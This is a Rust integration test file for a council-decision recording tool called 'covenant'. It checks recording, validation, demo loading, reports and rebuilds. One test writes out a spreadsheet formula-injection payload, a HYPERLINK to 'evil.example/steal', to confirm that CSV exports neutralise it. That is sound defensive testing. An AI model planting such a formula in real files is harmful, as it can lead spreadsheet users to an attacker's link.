//! The `covenant` binary run as a user runs it: `record` with good and bad files, `demo` on a
//! new SQLite file, and `report` and `rebuild` over the demo. The only tests that need the built binary; everything else is tested
//! through the application layer in the `tests` crate.

use std::path::Path;
use std::process::{Command, Output};

/// Runs `covenant --db covenant.db ARGS` in `dir`, with no database named by the environment.
fn covenant(dir: &Path, args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_covenant"))
        .current_dir(dir)
        .env_remove("COVENANT_DATABASE_URL")
        .env("USER", "clerk")
        .args(["--db", "covenant.db"])
        .args(args)
        .output()
        .expect("the covenant binary runs")
}

fn stdout(output: &Output) -> String {
    String::from_utf8_lossy(&output.stdout).into_owned()
}

fn stderr(output: &Output) -> String {
    String::from_utf8_lossy(&output.stderr).into_owned()
}

/// The head position `covenant verify` reports.
fn head(dir: &Path) -> String {
    let output = covenant(dir, &["verify"]);
    assert!(output.status.success(), "{}", stderr(&output));
    stdout(&output).lines().find(|l| l.starts_with("Head position:")).expect("a head line").to_owned()
}

const REGISTER: &str = r#"{"aggregate":"organisation","command":"register","id":"GB-LAE-WLI","name":"West Lindsey District Council","kind":"local_authority"}"#;
const COMMITTEE: &str = r#"{"aggregate":"body","command":"establish","id":"west-lindsey-prosperous-communities-committee","name":"Prosperous Communities Committee","kind":"committee","parents":["GB-LAE-WLI"],"established_on":"2018-01-01"}"#;

#[test]
fn record_takes_a_command_or_a_file_and_refuses_bad_files_whole() {
    let dir = tempfile::tempdir().expect("a temporary directory");
    let one = covenant(dir.path(), &["record", "--source", "Register of local authorities", REGISTER]);
    assert!(one.status.success(), "{}", stderr(&one));
    assert!(stdout(&one).contains("Recorded 1 event at position 1"), "{}", stdout(&one));
    assert!(stdout(&one).contains("OrganisationRegistered"), "{}", stdout(&one));

    let good = format!("# West Lindsey\n\n{COMMITTEE}\n");
    std::fs::write(dir.path().join("good.jsonl"), good).expect("write");
    let file = covenant(dir.path(), &["record", "--file", "good.jsonl"]);
    assert!(file.status.success(), "{}", stderr(&file));
    assert!(stdout(&file).contains("body-west-lindsey-prosperous-communities-committee"), "{}", stdout(&file));
    assert_eq!(head(dir.path()), "Head position: 2");

    let bad = [
        r#"{"aggregate":"meeting","command":"schedule","id":"west-lindsey-pcc-2021-03-09","body":"west-lindsey-prosperous-communities-committee","date":"2021-03-09","title":"Prosperous Communities Committee"}"#,
        r#"{"aggregate":"meeting","command":"hold","id":"west-lindsey-pcc-2021-03-09"}"#,
        "# a comment",
        r#"{"aggregate":"meting","command":"hold","id":"west-lindsey-pcc-2021-03-09","held_on":"2021-03-09"}"#,
    ]
    .join("\n");
    std::fs::write(dir.path().join("bad.jsonl"), bad).expect("write");
    let refused = covenant(dir.path(), &["record", "--file", "bad.jsonl"]);
    assert!(!refused.status.success());
    let message = stderr(&refused);
    assert!(message.contains("2 lines of bad.jsonl are not commands; nothing was recorded"), "{message}");
    assert!(message.contains("line 2: missing field `held_on`"), "{message}");
    assert!(message.contains("line 4: unknown variant `meting`"), "{message}");

    let rules = format!(
        "{}\n{COMMITTEE}\n",
        r#"{"aggregate":"meeting","command":"schedule","id":"west-lindsey-pcc-2021-03-09","body":"west-lindsey-prosperous-communities-committee","date":"2021-03-09","title":"Prosperous Communities Committee"}"#
    );
    std::fs::write(dir.path().join("refused.jsonl"), rules).expect("write");
    let refused = covenant(dir.path(), &["record", "--file", "refused.jsonl"]);
    assert!(!refused.status.success());
    let message = stderr(&refused);
    assert!(
        message.contains(
            "line 2 of refused.jsonl: the command on body-west-lindsey-prosperous-communities-committee is refused"
        ),
        "{message}"
    );
    assert!(message.contains("nothing was recorded"), "{message}");
    assert_eq!(head(dir.path()), "Head position: 2", "a refused file records nothing, not even its good lines");
}

#[test]
fn record_refuses_control_characters_and_keys_given_twice() {
    let dir = tempfile::tempdir().expect("a temporary directory");
    let one = covenant(dir.path(), &["record", REGISTER]);
    assert!(one.status.success(), "{}", stderr(&one));

    let nul = COMMITTEE.replace("Prosperous Communities", "Prosperous\\u0000 Communities");
    assert_ne!(nul, COMMITTEE);
    let refused = covenant(dir.path(), &["record", &nul]);
    assert!(!refused.status.success());
    let message = stderr(&refused);
    assert!(message.contains("name contains a control character (U+0000) at byte 10: remove it"), "{message}");

    std::fs::write(dir.path().join("nul.jsonl"), format!("# West Lindsey\n{nul}\n")).expect("write");
    let refused = covenant(dir.path(), &["record", "--file", "nul.jsonl"]);
    assert!(!refused.status.success());
    let message = stderr(&refused);
    assert!(
        message.contains("line 2 of nul.jsonl: name contains a control character (U+0000) at byte 10: remove it; nothing was recorded"),
        "{message}"
    );
    let refused = covenant(dir.path(), &["record", "--source", "minute 45\u{7}", COMMITTEE]);
    assert!(!refused.status.success());
    assert!(
        stderr(&refused).contains("source contains a control character (U+0007) at byte 9"),
        "{}",
        stderr(&refused)
    );

    let twice = COMMITTEE.replacen("\"id\":", "\"id\":\"west-lindsey-other-committee\",\"id\":", 1);
    std::fs::write(dir.path().join("twice.jsonl"), format!("{twice}\n")).expect("write");
    let refused = covenant(dir.path(), &["record", "--file", "twice.jsonl"]);
    assert!(!refused.status.success());
    let message = stderr(&refused);
    assert!(message.contains("line 1: the key \"id\" appears twice: give each key once"), "{message}");
    assert_eq!(head(dir.path()), "Head position: 1", "nothing was recorded after the first command");
}

#[test]
fn a_formula_in_an_action_title_comes_out_of_csv_as_text() {
    let dir = tempfile::tempdir().expect("a temporary directory");
    assert!(covenant(dir.path(), &["demo"]).status.success());
    let formula = "=HYPERLINK(\"http://evil.example/steal\",\"Open the plan\")";
    let mut command = tests::make_commitment(0);
    command["title"] = formula.into();
    std::fs::write(dir.path().join("action.json"), command.to_string()).expect("write the command");
    let recorded = covenant(dir.path(), &["record", "--file", "action.json"]);
    assert!(recorded.status.success(), "{}", stderr(&recorded));
    let neutralised = format!("\"'{}\"", formula.replace('"', "\"\""));
    for args in [
        &["report", "actions", "--format", "csv", "--organisation", "GB-LAE-WLI"][..],
        &["export", "actions", "--organisation", "GB-LAE-WLI"][..],
    ] {
        let csv = covenant(dir.path(), args);
        assert!(csv.status.success(), "{args:?}: {}", stderr(&csv));
        let csv = stdout(&csv);
        assert!(csv.contains(&neutralised), "{args:?}: the title starts with ' in the CSV: {csv}");
        assert!(!csv.contains(",\"="), "{args:?}: no cell starts with =: {csv}");
    }
}

#[test]
fn demo_loads_the_seed_stories_into_an_empty_database_only() {
    let dir = tempfile::tempdir().expect("a temporary directory");
    let demo = covenant(dir.path(), &["demo"]);
    assert!(demo.status.success(), "{}", stderr(&demo));
    let out = stdout(&demo);
    for story in ["lincolnshire", "bexley", "west-northamptonshire", "rotherham", "walsall"] {
        assert!(out.contains(&format!("Loaded {story} ")), "{out}");
    }
    assert!(out.contains("Loaded 5 stories"), "{out}");
    assert!(out.contains("Instrument status board"), "the demo ends with the status board: {out}");
    assert!(out.contains("Lincolnshire Homes for Independence Blueprint"), "{out}");
    let loaded = head(dir.path());

    let again = covenant(dir.path(), &["demo"]);
    assert!(!again.status.success());
    let message = stderr(&again);
    assert!(message.contains("already holds") && message.contains("delete covenant.db"), "{message}");
    assert_eq!(head(dir.path()), loaded, "nothing more was recorded");
}

/// The blueprint's row of a text status board.
fn blueprint_row(board: &str) -> String {
    board
        .lines()
        .find(|l| l.starts_with("Lincolnshire Homes for Independence Blueprint"))
        .unwrap_or_default()
        .to_owned()
}

#[test]
fn reports_show_the_record_now_and_as_it_stood_and_rebuild_changes_nothing() {
    let dir = tempfile::tempdir().expect("a temporary directory");
    assert!(covenant(dir.path(), &["demo"]).status.success());

    let before = covenant(dir.path(), &["report", "status", "--as-of", "2020-11-30"]);
    assert!(before.status.success(), "{}", stderr(&before));
    let row = blueprint_row(&stdout(&before));
    assert!(row.contains("draft") && row.contains("not yet"), "on 30 November 2020 nobody had endorsed it: {row}");
    assert!(stdout(&before).contains("Showing the record as decided by 2020-11-30."), "{}", stdout(&before));

    let after = covenant(dir.path(), &["report", "status", "--as-of", "2020-12-02"]);
    let row = blueprint_row(&stdout(&after));
    assert!(row.contains("endorsed") && row.contains("2020-12-01"), "the Board endorsed it on 1 December: {row}");

    let detail = covenant(
        dir.path(),
        &["report", "status", "--instrument", "lincolnshire-homes-for-independence-blueprint", "--format", "markdown"],
    );
    let detail = stdout(&detail);
    assert!(
        detail.contains("| West Lindsey District Council | adopted | 2021-03-09 | west-lindsey-pcc-2021-03-09-45 |"),
        "{detail}"
    );

    let then = covenant(
        dir.path(),
        &[
            "report",
            "status",
            "--instrument",
            "lincolnshire-homes-for-independence-blueprint",
            "--as-of",
            "2020-12-02",
            "--format",
            "markdown",
        ],
    );
    let then = stdout(&then);
    assert!(then.contains("| Lincolnshire Health and Wellbeing Board | 2020-12-01 |"), "{then}");
    assert!(then.contains("| West Lindsey District Council | pending | - | - |"), "{then}");
    assert!(then.contains("Showing the record as decided by 2020-12-02."), "{then}");

    let csv = covenant(dir.path(), &["report", "actions", "--format", "csv", "--organisation", "GB-LAE-WLI"]);
    assert!(csv.status.success(), "{}", stderr(&csv));
    assert!(stdout(&csv).lines().next().is_some_and(|header| header.contains(',')), "{}", stdout(&csv));

    let json = covenant(dir.path(), &["report", "audit", "--format", "json"]);
    let audit: serde_json::Value = serde_json::from_slice(&json.stdout).expect("the audit trail as JSON");
    let entries = audit["entries"].as_array().expect("entries");
    assert_eq!(format!("Head position: {}", entries.len()), head(dir.path()), "one audit entry per event");

    let now = stdout(&covenant(dir.path(), &["report", "resolutions"]));
    let rebuilt = covenant(dir.path(), &["rebuild"]);
    assert!(rebuilt.status.success(), "{}", stderr(&rebuilt));
    assert!(stdout(&rebuilt).contains("Rebuilt the read models from"), "{}", stdout(&rebuilt));
    assert_eq!(stdout(&covenant(dir.path(), &["report", "resolutions"])), now, "a rebuild gives the same views");

    let bad = covenant(dir.path(), &["report", "status", "--as-of", "30/11/2020"]);
    assert!(!bad.status.success());
    assert!(stderr(&bad).contains("give a date as YYYY-MM-DD"), "{}", stderr(&bad));
    let unknown = covenant(dir.path(), &["report", "status", "--instrument", "no-such-plan"]);
    assert!(!unknown.status.success());
    assert!(stderr(&unknown).contains("`covenant report status` lists every instrument"), "{}", stderr(&unknown));
}
